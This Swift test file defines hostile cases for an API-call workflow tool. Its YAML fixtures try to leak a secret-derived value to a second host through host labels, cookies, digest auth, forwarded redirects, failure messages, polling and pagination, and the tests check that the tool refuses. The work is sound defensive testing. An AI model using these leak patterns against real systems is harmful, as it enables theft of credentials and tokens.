/// Corner cases where a value made from a secret leaves in other ways.
extension HostileCase {
  static let corners: [HostileCase] = handedToCorners + forwarded + told + ways

  private static let handedToCorners: [HostileCase] = [
    (
      "in a label of the host",
      "host: \"http://<k | hex>.localhost:$PORT_B\"\npath: /take\ninputs: {k: {}}\n"
    ),
    (
      "as a part's file name",
      "host: $B\npath: /take\ninputs: {k: {}}\n"
        + "multipart: {f: {text: x, filename: \"<k | hex>\"}}\n"
    ),
    (
      "in a part's header field",
      "host: $B\npath: /take\ninputs: {k: {}}\nmultipart: {f: {text: x, headers: {X-K: <k>}}}\n"
    ),
    (
      "as a key in a cookie",
      "host: $B\npath: /take\ninputs: {k: {}}\n"
        + "auth: {type: apikey, name: sid, value: \"<k | hex>\", in: cookie}\n"
    ),
    (
      "in the digest of a challenge",
      "host: $B\npath: /take\ninputs: {k: {}}\nauth: {type: digest, username: u, password: <k>}\n"
    ),
    (
      "as the name of a digest",
      "host: $B\npath: /take\ninputs: {k: {}}\nauth: {type: basic, username: <k>, password: \"\"}\n"
    ),
  ].map { (name, file) in
    let isHost = name.hasSuffix("host")
    return HostileCase(
      testDescription: "a: from script to script to B, \(name)",
      files: [
        "main.yaml": "steps:\n  one: {call: inner.yaml, with: {k: <secret.key>}}\n",
        "inner.yaml": "inputs: {k: {}}\nsteps:\n  send: {call: take.yaml, with: {k: <k>}}\n",
        "take.yaml": file,
      ],
      replies: [
        "B GET /take": HostileReply(
          name.hasSuffix("challenge") ? "401 Unauthorized" : "200 OK",
          fields: ["WWW-Authenticate: Digest realm=\"r\", nonce=\"n\", qop=\"auth\""])
      ],
      wanted: .refused(isHost ? [] : allow, statuses: isHost ? [65, 77] : [77]))
  }

  /// Values that a redirect sends along.
  private static let forwarded: [HostileCase] = [
    HostileCase(
      testDescription: "l: a field that was made of the secret is forwarded",
      files: [
        "main.yaml": """
        steps:
          one: {call: inner.yaml, with: {k: <secret.key>}}
          two: {call: send.yaml, with: {k: <one.k2>}}

        """,
        "inner.yaml": """
        inputs: {k: {}}
        steps:
          own: {call: own.yaml, with: {k: <k>}}
        outputs: {k2: "<k | hex>"}

        """,
        "own.yaml": HostileFiles.ownOf,
        "send.yaml": """
        host: $A
        path: /send
        inputs: {k: {}}
        headers: {X-V: <k>}
        redirects: {follow: 2, forward: [X-V]}

        """,
      ],
      replies: ["A GET /send": HostileReply("302 Found", fields: ["Location: $B/take"])],
      wanted: Wanted(
        statuses: [0, 65, 76, 77], requests: ["A POST /own", "A GET /send", "B GET /take"])),
    forwarding("headers: {X-N: <k>}", "302 Found"), forwarding("json: {k: <k>}", "307 Moved"),
  ]

  /// A response goes to its own origin, which leads on to B.
  private static func forwarding(_ field: String, _ status: String) -> HostileCase {
    HostileCase(
      testDescription: "l: a stranger's file has what was read redirected to B, in \(field)",
      files: [
        "main.yaml": """
        steps:
          a: {call: own.yaml}
          b: {call: send.yaml, with: {k: <a.body.name>}}

        """,
        "own.yaml": HostileFiles.read,
        "send.yaml": """
        host: $A
        path: /send
        method: POST
        inputs: {k: {}}
        \(field)
        redirects: {follow: 2, forward: [X-N]}

        """,
      ],
      replies: [
        "A POST /own": #"{"name":"$MARK","token":"t"}"#,
        "A POST /send": HostileReply(status, fields: ["Location: $B/take"]),
      ],
      wanted: Wanted(
        statuses: [0, 65, 76, 77], requests: ["A POST /own", "A POST /send", "B POST /take"]))
  }

  /// Parts of a response in a message.
  private static let told: [HostileCase] = [
    (
      "of what was expected", "own.yaml, expect: {body: {$.name: zzz}}",
      HostileReply(#"{"name":"$MARK","token":"t"}"#)
    ),
    (
      "of a refusal", "own.yaml",
      HostileReply("401 Unauthorized", fields: ["WWW-Authenticate: Bearer error=\"$MARK\""])
    ),
    ("of a redirect", "own.yaml", HostileReply("302 Found", fields: ["Location: /$MARK"])),
    (
      "of a part that is missing", "own.yaml, expect: {headers: {etag: zzz}}",
      HostileReply(fields: ["ETag: $MARK"])
    ),
  ].map { (name, step, reply) in
    HostileCase(
      testDescription: "e: a stranger's on_failure posts the message \(name)",
      files: [
        "main.yaml": """
        steps:
          a: {call: \(step)}
        on_failure:
          b: {call: take.yaml, with: {k: <error.message>}}

        """,
        "own.yaml": HostileFiles.read, "take.yaml": HostileFiles.take,
      ],
      replies: ["A POST /own": reply],
      wanted: Wanted(
        statuses: [3, 4, 9, 77], requests: ["A POST /own", "B POST /take"]))
  }

  private static let ways: [HostileCase] = [
    HostileCase(
      testDescription: "g: what was read chooses the host",
      files: [
        "main.yaml": """
        steps:
          a: {call: own.yaml}
          b: {call: {url: <a.body.url>}}

        """,
        "own.yaml": HostileFiles.read,
      ],
      replies: ["A POST /own": #"{"token":"t","url":"$B/$MARK"}"#],
      wanted: .refused(after: ["A POST /own"], trust)),
    HostileCase(
      testDescription: "g: what was read chooses a label of the host",
      files: [
        "main.yaml": """
        steps:
          a: {call: own.yaml}
          b: {call: {host: "http://<a.body.name>.localhost:$PORT_B", path: /take}}

        """,
        "own.yaml": HostileFiles.read,
      ],
      replies: ["A POST /own": #"{"token":"t","name":"$MARK"}"#],
      wanted: .refused(
        after: ["A POST /own"], ["'key'", "$A", "apicall trust|apicall secrets grant"])),
    HostileCase(
      testDescription: "g: a stranger's poll posts what it read",
      files: [
        "main.yaml": """
        steps:
          a: {call: own.yaml, poll: {until: {body: {$.name: {exists: true}}}, every: 10ms, for: 2s}}
          b: {call: take.yaml, with: {k: <a.body.name>}}

        """,
        "own.yaml": HostileFiles.read, "take.yaml": HostileFiles.take,
      ],
      replies: ["A POST /own": #"{"token":"t","name":"$MARK"}"#], wanted: .refused(trust)),
    HostileCase(
      testDescription: "g: needs of the project file bring what was read",
      files: [
        "apicall.yaml": "defaults: {needs: {n: {call: own.yaml}}}\n",
        "main.yaml": "host: $B\npath: /take\nheaders: {X-N: <n.name>}\n",
        "own.yaml": HostileFiles.read,
      ],
      replies: ["A POST /own": #"{"token":"t","name":"$MARK"}"#], wanted: .refused(trust)),
    HostileCase(
      testDescription: "g: the pages of a list that was read with the secret",
      files: [
        "main.yaml": """
        steps:
          a: {call: list.yaml}
          b: {each: <a.body>, call: take.yaml, with: {k: <each.id>}}

        """,
        "list.yaml":
          "host: $A\npath: /list\nheaders: {X-Key: <secret.key>}\npaginate: {link: next}\n",
        "take.yaml": HostileFiles.take,
      ],
      replies: ["A GET /list": #"[{"id":"$MARK"}]"#], wanted: .refused(trust)),
    HostileCase(
      testDescription: "g: a script of a stranger calls the login of a trusted folder",
      files: [
        "main.yaml": """
        steps:
          a: {call: lib/own.yaml}
          b: {call: take.yaml, with: {k: <a.name>}}

        """,
        "lib/own.yaml": HostileFiles.read, "lib/apicall.yaml": "", "take.yaml": HostileFiles.take,
      ],
      replies: ["A POST /own": #"{"token":"t","name":"$MARK"}"#], trusted: ["lib"],
      wanted: .refused(trust)),
  ]
}
